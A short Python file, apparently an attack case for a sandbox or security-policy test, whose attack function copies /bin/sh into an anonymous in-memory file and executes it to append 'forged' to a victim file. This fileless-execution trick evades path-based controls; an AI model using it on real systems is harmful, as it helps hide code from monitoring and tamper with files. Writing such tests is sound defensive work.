"""Becomes a program that is in no file system."""

import os
import shutil


def attack(world):
    memory = os.memfd_create("sh")
    with open("/bin/sh", "rb") as shell, open(memory, "wb", closefd=False) as copy:
        shutil.copyfileobj(shell, copy)
    os.execve(memory, ["sh", "-c", 'echo forged >> "$0"', world["victim_file"]], {})
